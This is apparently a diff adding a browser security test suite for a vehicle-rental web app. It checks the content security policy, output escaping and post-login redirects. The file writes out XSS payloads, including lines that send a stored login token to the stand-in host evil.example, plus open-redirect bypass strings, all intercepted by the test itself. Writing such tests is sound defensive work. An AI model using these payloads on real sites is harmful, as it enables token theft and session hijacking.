@@ -1,0 +1,188 @@
+import type { Page } from 'playwright-core';
+import { beforeEach, describe, expect, it } from 'vitest';
+import { openPage, takeComplaints } from './browser.ts';
+import { query, signIn } from './visitor.ts';
+
+const EVIL = 'https://evil.example';
+
+/** What an attacker would put into a page that let them. */
+const INJECTED = `
+  <script>window.stolen = 'inline'; fetch('${EVIL}/inline?' + localStorage.token)</script>
+  <script src="${EVIL}/foreign.js"></script>
+  <script type="module">import '${EVIL}/module.js'; window.stolen = 'module'</script>
+  <script src="data:text/javascript,window.stolen='data'"></script>
+  <img src="/no-such-picture" onerror="window.stolen = 'handler'">
+  <img src="${EVIL}/picture?by-address">
+  <svg onload="window.stolen = 'svg'"></svg>
+  <iframe srcdoc="<script>parent.stolen = 'frame'</script>"></iframe>
+  <iframe src="${EVIL}/frame"></iframe>
+  <object data="${EVIL}/object"></object>
+  <link rel="stylesheet" href="${EVIL}/style.css">
+  <base href="${EVIL}/">
+  <a id="link" href="javascript:window.stolen = 'link'">x</a>
+  <form id="form" action="${EVIL}/form" method="post"><input name="token" value="x"></form>`;
+
+const PAGES = ['/', '/vehicles/1', '/auth?type=register', '/user', '/nowhere'];
+
+type Window = { stolen?: string };
+
+const stolen = (page: Page) => page.evaluate(() => (globalThis as Window).stolen);
+
+/** Addresses of the attacker's that the page asks for; none is let out of the browser. */
+async function watchEvil(page: Page): Promise<string[]> {
+  const asked: string[] = [];
+  await page.context().route(`${EVIL}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: 'text/javascript', body: "window.stolen = 'foreign'" });
+  });
+  return asked;
+}
+
+beforeEach(async () => {
+  await query('delete from attempts');
+});
+
+/** Opens a page with the attacker's markup in it, and does what a person might do there. */
+async function openInjected(path: string, change = (html: string) => html) {
+  const page = await openPage();
+  // A visitor would be sent on from the pages of an account.
+  if (path.startsWith('/user')) await signIn(page);
+  const asked = await watchEvil(page);
+  await page.route(
+    (url) => url.pathname + url.search === path,
+    async (route) => {
+      const response = await route.fetch();
+      const html = (await response.text()).replace('</body>', `${INJECTED}</body>`);
+      await route.fulfill({ response, body: change(html) });
+    },
+  );
+  await page.goto(path);
+  await page.locator('#link').evaluate((link) => (link as HTMLAnchorElement).click());
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = "window.stolen = 'inserted'";
+    document.body.append(script);
+  });
+  await page.waitForLoadState('networkidle');
+  return { page, asked };
+}
+
+describe('a script that has got into a page', () => {
+  it.each(PAGES)('neither runs nor loads, and no form leads away: %s', async (path) => {
+    const { page, asked } = await openInjected(path);
+    await page.locator('#form').evaluate((form) => (form as HTMLFormElement).submit());
+    await expect.poll(() => takeComplaints().join()).toContain('form-action');
+    expect(await stolen(page)).toBeUndefined();
+    expect(asked).toEqual([]);
+  });
+
+  it('would do all that without the policy, so that its absence would be seen', async () => {
+    const { page, asked } = await openInjected('/about', (html) =>
+      html.replace(/<meta http-equiv="content-security-policy"[^>]*>/, ''),
+    );
+    expect(await stolen(page)).toBeDefined();
+    expect(asked.length).toBeGreaterThan(3);
+    takeComplaints();
+  });
+
+  it('could not send the token anywhere if it ran', async () => {
+    const page = await openPage();
+    const asked = await watchEvil(page);
+    await signIn(page);
+    expect(await page.evaluate(() => localStorage.getItem('token'))).toMatch(/^ey/);
+    await page.evaluate(async (evil) => {
+      const address = `${evil}/?${localStorage.getItem('token')}`;
+      await fetch(address).catch(() => undefined);
+      await fetch(address, { mode: 'no-cors' }).catch(() => undefined);
+      navigator.sendBeacon(address);
+      new Image().src = address;
+      try {
+        new WebSocket(address.replace('https', 'wss'));
+        new EventSource(address);
+      } catch {
+        // Refused at once is as good.
+      }
+    }, EVIL);
+    await page.waitForLoadState('networkidle');
+    expect(asked).toEqual([]);
+    expect(takeComplaints().join()).toContain('connect-src');
+  });
+});
+
+describe('markup in what people write', () => {
+  const MARKUP = `<img src=x onerror="window.stolen='text'">`;
+
+  it('is shown as text on the page of a vehicle added after the build', async () => {
+    const model = `"><script>window.stolen='model'</script>${MARKUP}`.slice(0, 80);
+    const [vehicle] = await query(
+      `insert into vehicles (model, doors, seats, luggage, transmission, air_conditioning,
+         fuel_type, age, price_per_hour_cents, image_id)
+       select $1, 4, 5, 3, 'Automatic', true, 'Hybrid', 1, 4000, image_id from vehicles where id = 1
+       returning id`,
+      [model],
+    );
+    const page = await openPage();
+    await page.goto(`/vehicles/${vehicle.id}`);
+    await page.getByRole('heading', { name: model, exact: true }).waitFor();
+    expect(await page.title()).toContain(model);
+    expect(await stolen(page)).toBeUndefined();
+    expect(takeComplaints()).toEqual([]);
+    await query('delete from vehicles where id = $1', [vehicle.id]);
+  });
+
+  it("is shown as text in a person's name and on their reservation", async () => {
+    const page = await openPage();
+    await query("update users set first_name = $1 where email = 'customer@kestrel.example'", [
+      MARKUP,
+    ]);
+    const [reservation] = await query(
+      `insert into reservations (user_id, vehicle_id, pick_up_time, drop_off_time,
+         pick_up_location, drop_off_location, total_cents)
+       select id, 1, '2041-01-01 18:00Z', '2041-01-01 20:00Z', $1, $1, 7600
+       from users where email = 'customer@kestrel.example' returning id`,
+      [MARKUP],
+    );
+    try {
+      await signIn(page);
+      await page.goto(`/user/reservations/${reservation.id}`);
+      await page.getByText(MARKUP, { exact: true }).filter({ visible: true }).first().waitFor();
+      await page.goto('/user');
+      await page.getByText(MARKUP).filter({ visible: true }).first().waitFor();
+      expect(await stolen(page)).toBeUndefined();
+      expect(takeComplaints()).toEqual([]);
+    } finally {
+      await query('delete from reservations where id = $1', [reservation.id]);
+      await query("update users set first_name = 'Noah' where email = 'customer@kestrel.example'");
+    }
+  });
+});
+
+describe('the way on after signing in', () => {
+  it('never leads from the site', async () => {
+    const page = await openPage();
+    const asked = await watchEvil(page);
+    await signIn(page);
+    const { origin } = new URL(page.url());
+    for (const next of [
+      '//evil.example/',
+      'https://evil.example/',
+      'https:evil.example',
+      '/\\evil.example',
+      '/.//evil.example',
+      '/%2e//evil.example',
+      '/a/..//evil.example',
+      '/\t/evil.example',
+      'javascript:window.stolen=1',
+      'data:text/html,x',
+      'http://localhost@evil.example/',
+    ]) {
+      await page.goto(`/auth?type=login&next=${encodeURIComponent(next)}`, {
+        waitUntil: 'commit',
+      });
+      await page.waitForURL((url) => url.pathname !== '/auth');
+      expect(page.url(), next).toBe(`${origin}/`);
+      expect(await stolen(page)).toBeUndefined();
+    }
+    expect(asked).toEqual([]);
+  });
+});
